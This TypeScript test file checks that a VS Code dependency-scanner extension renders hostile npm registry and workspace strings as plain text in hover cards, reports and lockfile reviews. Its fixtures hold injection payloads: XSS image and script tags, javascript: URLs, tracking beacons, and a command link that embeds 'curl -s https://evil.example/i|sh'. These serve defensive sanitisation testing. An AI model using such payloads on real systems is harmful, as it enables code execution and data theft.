// Issue #10, rows 1 and 10: Markdown built from a hostile workspace or registry answer
// (hover card, Show Report, Review Lockfile Changes) must render as text: no link, image
// or HTML the attacker wrote, no way out of a code span. Each case renders the Markdown
// with markdown-it as VS Code's Markdown preview configures it (HTML and bare-URL
// linkifying on) and with every link scheme allowed, so anything that parses as a link
// counts, then looks at the HTML.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Finding } from '../../server/src/engine/model';
import { RULE_DOCS_BASE } from '../../server/src/engine/rules/catalog';
import { scanFiles } from '../../server/src/engine/scan';
import { emptyRemoteData, type Packument } from '../../server/src/engine/data/remote-data';
import { hoverAt } from '../../server/src/lsp/hover';
import { renderReport, type ReportFolder } from '../../server/src/lsp/report';
import { renderReview } from '../../server/src/lsp/review';
import { PositionMapper } from '../../server/src/lsp/positions';
import { IocTexts, iocText } from '../../server/src/lsp/report-links';
import { advisoryUrl, codeSpan, destination, link, npmPackageUrl, repositoryLinkUrl, text } from '../../server/src/lsp/markdown';
import type { LockfileReview } from '../../server/src/engine/review/review';
import { packumentFromRecords } from '../../server/src/engine/data/packument';

// markdown-it is what VS Code's Markdown preview renders with; it is here through
// @vscode/vsce, without types.
type MarkdownIt = { render(src: string): string; validateLink(url: string): boolean };
// eslint-disable-next-line @typescript-eslint/no-require-imports
const md = new (require('markdown-it') as new (options: object) => MarkdownIt)({ html: true, linkify: true });
md.validateLink = () => true; // count every link, whatever its scheme

/** Hostile strings: each would add a link, an image, HTML or a block if it reached Markdown raw. */
const HOSTILE = [
  '`` [Copy IOC](command:depwarden.copyIoc?%5B%22curl%20-s%20https%3A%2F%2Fevil.example%2Fi%7Csh%22%5D) ``',
  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)',
  '![](http://evil.example/beacon.png)',
  '<img src=x onerror=alert(1)>',
  '<a href="https://evil.example">click</a><script>alert(1)</script>',
  'line one\n\n[ref]: https://evil.example\n\n[ref]\n# heading',
  'see https://evil.example/x and www.evil.example and mail@evil.example',
  '&lt;img src=x&gt; &#60;b&#62;',
  '```\n<img src=x>\n```',
  '\\`<img src=x>`',
  '<https://evil.example/autolink>',
  '$\\href{https://evil.example}{x}$',
];

interface Rendered {
  html: string;
  hrefs: string[];
  images: number;
  /** Every tag name in the HTML. */
  tags: Set<string>;
}

function render(markdown: string): Rendered {
  const html = md.render(markdown);
  const hrefs = [...html.matchAll(/<a\s+href="([^"]*)"/g)].map((m) => m[1].replace(/&amp;/g, '&'));
  const tags = new Set([...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)/g)].map((m) => m[1].toLowerCase()));
  return { html, hrefs, images: (html.match(/<img/gi) ?? []).length, tags };
}

/** What markdown-it makes of Markdown alone: anything else in the HTML came in raw. */
const MARKDOWN_TAGS = new Set(['p', 'strong', 'em', 'code', 'a', 'ul', 'li', 'h1', 'h2', 'h3', 'hr', 'br']);

function assertNoInjection(r: Rendered, allowedHref: (href: string) => boolean, what: string): void {
  assert.equal(r.images, 0, `${what}: an image got in\n${r.html}`);
  for (const tag of r.tags) assert.ok(MARKDOWN_TAGS.has(tag), `${what}: raw HTML <${tag}> got in\n${r.html}`);
  for (const href of r.hrefs) assert.ok(allowedHref(href), `${what}: a link we did not build: ${href}\n${r.html}`);
}

/** Text content of the HTML (tags dropped, entities decoded): what a person reads. */
function readable(html: string): string {
  return html
    .replace(/<[^>]+>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
    .trim();
}

test('text(): every hostile string renders as exactly its own text, on one line, with no link, image or HTML', () => {
  for (const s of HOSTILE) {
    const r = render(text(s, 10_000));
    assertNoInjection(r, () => false, JSON.stringify(s));
    assert.deepEqual([...r.tags], ['p'], `${JSON.stringify(s)} must stay one paragraph of text\n${r.html}`);
    assert.equal(readable(r.html), s.replace(/\n/g, ' ').trim());
  }
});

test('codeSpan(): backtick runs inside never close the span; the text comes out verbatim in one <code>', () => {
  for (const s of [...HOSTILE, '`', '``', 'a ``` b ```` c', '` leading', 'trailing `', ' both ', '````']) {
    const r = render(`x ${codeSpan(s, 10_000)} y`);
    assertNoInjection(r, () => false, JSON.stringify(s));
    assert.equal((r.html.match(/<code>/g) ?? []).length, 1, `${JSON.stringify(s)}\n${r.html}`);
    const inside = /<code>([^]*)<\/code>/.exec(r.html)![1];
    assert.equal(inside.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&'), s.replace(/\n/g, ' '), r.html);
    assert.match(r.html, /^<p>x <code>[^]*<\/code> y<\/p>\n$/);
  }
});

test('a 20 MB string is cut to a few hundred characters with an ellipsis, in linear time', () => {
  const huge = '`'.repeat(10_000_000) + '[x](command:evil)'.repeat(600_000);
  const started = process.hrtime.bigint();
  const t = text(huge);
  const c = codeSpan(huge, 400);
  const ms = Number(process.hrtime.bigint() - started) / 1e6;
  assert.ok(t.length <= 2 * 200 + 1 && t.endsWith('…'), `text: ${t.length} chars`);
  // 400 backticks need a fence of 401 on each side.
  assert.ok(c.length <= 3 * 401 + 2 && c.includes('…'), `codeSpan: ${c.length} chars`);
  assert.ok(ms < 1000, `${ms} ms`);
  assertNoInjection(render(c), () => false, 'the cut code span');
});

test('links: only https and file URLs, destinations that cannot end early, labels escaped', () => {
  assert.throws(() => link('x', 'command:depwarden.copyIoc?%5B%22x%22%5D'));
  assert.throws(() => link('x', 'javascript:alert(1)'));
  assert.throws(() => link('x', 'http://evil.example/'));
  const l = link('a](https://evil.example)[b', 'https://www.npmjs.com/package/x) [y](https://evil.example');
  const r = render(l);
  assert.equal(r.hrefs.length, 1, r.html);
  assert.ok(r.hrefs[0].startsWith('https://www.npmjs.com/package/x%29%20'), r.html);
  assert.ok(readable(r.html) === 'a](https://evil.example)[b', r.html);
  assert.equal(destination('https://a/b c(d)<e>"f\'g`h\\i'), 'https://a/b%20c%28d%29%3Ce%3E%22f%27g%60h%5Ci');
});

test('URLs we build: npm pages of valid names only, repositories on known hosts only, advisories on their own hosts or osv.dev', () => {
  assert.equal(npmPackageUrl('@scope/name', '1.0.0-beta.1'), 'https://www.npmjs.com/package/@scope/name/v/1.0.0-beta.1');
  assert.equal(npmPackageUrl('a](https://evil.example)'), undefined);
  assert.equal(npmPackageUrl('x', '1.0.0/../../evil'), undefined);
  assert.equal(repositoryLinkUrl('https://github.com/acme/sneaky'), 'https://github.com/acme/sneaky');
  assert.equal(repositoryLinkUrl('https://gitlab.com/group/sub/repo'), 'https://gitlab.com/group/sub/repo');
  for (const bad of [
    'http://github.com/acme/x',
    'https://evil.example/acme/x',
    'https://github.com.evil.example/acme/x',
    'https://user:pw@github.com/acme/x',
    'https://github.com:8443/acme/x',
    'https://github.com/acme',
    'https://github.com/acme/x)[y](https:/evil.example',
    'javascript:alert(1)//github.com/a/b',
  ]) {
    assert.equal(repositoryLinkUrl(bad), undefined, bad);
  }
  assert.equal(advisoryUrl('GHSA-x', 'https://github.com/advisories/GHSA-x'), 'https://github.com/advisories/GHSA-x');
  assert.equal(advisoryUrl('GHSA-x', 'https://evil.example/GHSA-x'), 'https://osv.dev/vulnerability/GHSA-x');
  assert.equal(advisoryUrl('X', 'javascript:alert(1)'), 'https://osv.dev/vulnerability/X');
  assert.equal(advisoryUrl('X', 'https://github.com/evil/repo'), 'https://osv.dev/vulnerability/X');
});

// ------------------------------------------------------------------ the hover card

const NOW = Date.now();
const DAY = 86_400_000;
const HOSTILE_SCRIPT = 'node -e "x" `` [Copy IOC](command:depwarden.copyIoc?%5B%22curl%20-s%20https%3A%2F%2Fevil.example%2Fi%7Csh%22%5D) ![](http://evil.example/beacon.png) ``';
const HOSTILE_SPEC = '1.0.0 `` [x](command:depwarden.copyIoc?%5B%22rm%22%5D) ![](http://evil.example/s.png) <img src=x> ``';
const HOSTILE_KEY = 'evil`` [k](https://evil.example/k) <img src=y> ``';

function hostilePackument(): Packument {
  return packumentFromRecords({
    name: 'sneaky',
    distTags: { latest: '1.1.0' },
    versions: {
      '1.0.0': { version: '1.0.0', hasRepository: true, hasBin: false, hasProvenance: false, publisher: 'alice' },
      '1.1.0': {
        version: '1.1.0',
        hasRepository: true,
        hasBin: false,
        hasProvenance: false,
        scripts: { postinstall: HOSTILE_SCRIPT, 'pre`[i](https://evil.example)`': 'x' },
        deprecated: 'use [this](https://evil.example/d) instead <img src=z> ![](http://evil.example/d.png)',
        publisher: 'mallory`` ![](http://evil.example/p.png) [p](command:evil) ``',
        repositoryUrl: 'https://evil.example/acme/sneaky)[r](command:evil',
        gitHead: '0123456789abcdef0123456789abcdef01234567',
      },
    },
    time: { created: new Date(NOW - 900 * DAY).toISOString(), '1.0.0': new Date(NOW - 800 * DAY).toISOString(), '1.1.0': new Date(NOW - 2 * DAY).toISOString() },
  });
}

function hostileProject() {
  const manifest = `{\n  "dependencies": {\n    "sneaky": "1.1.0",\n    "odd": ${JSON.stringify(HOSTILE_SPEC)}\n  }\n}\n`;
  const lock = JSON.stringify(
    {
      name: 'x',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { dependencies: { sneaky: '1.1.0' } },
        'node_modules/sneaky': { version: '1.1.0', resolved: 'https://registry.npmjs.org/sneaky/-/sneaky-1.1.0.tgz', integrity: 'sha512-AAAA', hasInstallScript: true },
        [`node_modules/${HOSTILE_KEY}`]: { version: '1.0.0`` <img src=v> ``', resolved: 'https://registry.npmjs.org/x/-/x-1.0.0.tgz', integrity: 'sha512-BBBB' },
      },
    },
    null,
    2,
  );
  const result = scanFiles([
    { path: 'package.json', text: manifest },
    { path: 'package-lock.json', text: lock },
  ]);
  const remote = emptyRemoteData();
  remote.packuments.set('sneaky', { status: 'ok', packument: hostilePackument(), registry: 'https://registry.npmjs.org/', fromCache: false });
  const at = (file: 'package.json' | 'package-lock.json', needle: string) => (file === 'package.json' ? manifest : lock).indexOf(needle) + 2;
  // A finding whose message and evidence carry registry text, as the registry rules write them.
  const start = manifest.indexOf('"sneaky"');
  result.findings.push({
    rule: 'install-script',
    severity: 'warning',
    message: `sneaky@1.1.0 runs an install script: ${HOSTILE_SCRIPT}`,
    evidence: ['deprecated: use [this](https://evil.example/d) instead <img src=z>', ...HOSTILE],
    file: 'package.json',
    span: { start, end: start + 8 },
    package: 'sneaky',
    version: '1.1.0',
    via: ['x', HOSTILE_KEY, 'sneaky'],
    fixes: [],
  } as Finding);
  return { result, remote, at };
}

/** Links a hover may carry: npm and the rule docs, repository hosts after validation, and the id form of Copy IOC. */
function ourHoverLink(href: string): boolean {
  return (
    href.startsWith('https://www.npmjs.com/') ||
    href.startsWith(RULE_DOCS_BASE) ||
    href.startsWith('https://osv.dev/') ||
    /^https:\/\/(github\.com|gitlab\.com|bitbucket\.org)\/[\w.-]+\/[\w.-]+/.test(href) ||
    /^command:depwarden\.copyIocById\?%5B%22[a-z0-9]{1,32}%22%5D$/.test(href)
  );
}

test('hover: a hostile spec, lockfile key and registry answer (scripts, deprecated, publisher, repository) add no link, image or HTML', () => {
  const { result, remote, at } = hostileProject();
  const cards = [
    hoverAt(result, 'package.json', at('package.json', '"sneaky"'), remote),
    hoverAt(result, 'package.json', at('package.json', '"odd"'), remote),
    hoverAt(result, 'package-lock.json', at('package-lock.json', `"node_modules/${HOSTILE_KEY.slice(0, 4)}`), remote),
  ].map((h) => (h!.contents as { value: string }).value);
  for (const card of cards) {
    const r = render(card);
    assertNoInjection(r, ourHoverLink, card.slice(0, 200));
    assert.ok(!r.hrefs.some((h) => h.startsWith('command:depwarden.copyIoc?')), 'no Copy IOC link carrying text');
  }
  const [sneaky, odd, key] = cards.map((c) => readable(render(c).html));
  assert.ok(odd.includes(HOSTILE_SPEC), `the spec is shown verbatim\n${odd}`);
  assert.ok(key.includes(HOSTILE_KEY), `the lockfile key is shown verbatim\n${key}`);
  assert.ok(sneaky.includes(HOSTILE_SCRIPT), `the script is shown verbatim\n${sneaky}`);
  // The repository is on a host we do not know: named as text, not linked.
  assert.ok(sneaky.includes('not linked'), sneaky);
});

test('hover: "Copy IOC" carries an id the server resolves, never the text', () => {
  const { result, remote, at } = hostileProject();
  const iocs = new IocTexts();
  const card = (hoverAt(result, 'package.json', at('package.json', '"sneaky"'), remote, { iocs })!.contents as { value: string }).value;
  const links = render(card).hrefs.filter((h) => h.startsWith('command:'));
  assert.equal(links.length, 1, card);
  const [id] = JSON.parse(decodeURIComponent(links[0].slice('command:depwarden.copyIocById?'.length))) as string[];
  assert.match(id, /^[a-z0-9]{1,32}$/);
  assert.match(iocs.get(id)!, /^sneaky@1\.1\.0\n# install-script: /);
  assert.equal(iocs.get('not an id'), undefined);
  assert.equal(iocs.get(['x']), undefined);
});

test('the IOC store stays bounded, and a name with a line break adds no indicator of its own', () => {
  const iocs = new IocTexts(3);
  const ids = ['a', 'b', 'c', 'd'].map((t) => iocs.put(t));
  assert.equal(iocs.get(ids[0]), undefined, 'the oldest went');
  assert.equal(iocs.get(ids[3]), 'd');
  assert.equal(iocs.put('d'), ids[3], 'the same text, the same id');
  const finding = { rule: 'known-malware', severity: 'error', message: 'm', file: 'package-lock.json', span: { start: 0, end: 0 }, package: 'evil\nlodash', version: '4.17.21\nreact@18.0.0', fixes: [] } as Finding;
  const lines = iocText(finding).split('\n');
  assert.equal(lines[0], 'evil lodash@4.17.21 react@18.0.0');
  assert.ok(lines.slice(1).every((l) => l.startsWith('# ')), lines.join('\n'));
  const long = iocText({ ...finding, evidence: Array.from({ length: 5000 }, () => 'x'.repeat(100_000)) });
  assert.ok(long.length < 20_000, `${long.length} characters`);
});

// ------------------------------------------------------------------ report and review

const HOSTILE_NAME = 'evil`<img src=http://evil.example/r.png>`[x](https://evil.example)';
const HOSTILE_FILE = 'a)[f](https://evil.example)<img src=q>/package-lock.json';

/** Links the report and the review may carry: rule docs and the workspace's own files. */
function ourReportLink(href: string): boolean {
  // Files as the Markdown preview opens them: paths from the workspace folder (markdown.ts workspaceFileLink), never out of it here.
  return href.startsWith(RULE_DOCS_BASE) || /^\/(?!\.\.)[^()\s<>]*(#L\d+)?$/.test(href);
}

test('report: hostile package names, versions, files, messages and folder names render as text', () => {
  const result = scanFiles([{ path: 'package.json', text: '{}' }]);
  const base: Pick<Finding, 'severity' | 'span' | 'fixes'> = { severity: 'warning', span: { start: 0, end: 0 }, fixes: [] };
  result.findings.push(
    { ...base, rule: 'typosquat', message: `"${HOSTILE_NAME}" looks like "x"`, file: 'package.json', package: HOSTILE_NAME, version: '1.0.0<img src=v>', evidence: HOSTILE, via: ['a', HOSTILE_NAME] } as Finding,
    { ...base, rule: 'unparsed-file' as Finding['rule'], message: HOSTILE[3], file: HOSTILE_FILE } as Finding,
    { ...base, rule: 'unpinned-range', message: 'm', file: 'package.json', package: 'x`', suppressed: { reason: HOSTILE[2] } } as Finding,
  );
  result.files.push({ path: HOSTILE_FILE, kind: 'lockfile', parsed: false, error: HOSTILE[4] } as (typeof result.files)[number]);
  const folder = (name: string): ReportFolder => ({ name, enabled: true, result, uriOf: (f) => `file:///ws/${encodeURI(f)}` });
  const markdown = renderReport([folder('ws'), folder(HOSTILE_NAME)], new PositionMapper(() => undefined));
  const r = render(markdown);
  assertNoInjection(r, ourReportLink, 'report');
  const shown = readable(r.html);
  assert.ok(shown.includes(`${HOSTILE_NAME}@1.0.0<img src=v>`), shown);
  assert.ok(shown.includes(HOSTILE_FILE), shown);
});

test('review: hostile names, versions, trust texts and lockfile paths render as text', () => {
  const change = (kind: 'added' | 'upgraded', name: string, from?: string, to?: string) => ({
    kind,
    name,
    from,
    to,
    trust: [`published by "${HOSTILE[0]}"`, HOSTILE[2]],
    findings: [{ rule: 'install-script', severity: 'warning', message: HOSTILE[3], file: HOSTILE_FILE, span: { start: 0, end: 0 }, fixes: [] } as Finding],
    via: ['root', HOSTILE_NAME],
  });
  const review: LockfileReview = {
    path: HOSTILE_FILE,
    hadBase: true,
    changes: [change('added', HOSTILE_NAME, undefined, '1.0.0`<img src=a>`'), change('upgraded', 'b', '1.0.0', '2.0.0 [u](https://evil.example)')],
    counts: { added: 1, upgraded: 1, downgraded: 0, removed: 0 },
  };
  const markdown = renderReview([{ folder: HOSTILE_NAME, against: 'git HEAD', review, uriOf: (f) => `file:///ws/${encodeURI(f)}` }]);
  const r = render(markdown);
  assertNoInjection(r, ourReportLink, 'review');
  const shown = readable(r.html);
  assert.ok(shown.includes(`${HOSTILE_NAME}@1.0.0\`<img src=a>\``), shown);
  assert.ok(shown.includes(HOSTILE_FILE), shown);
});
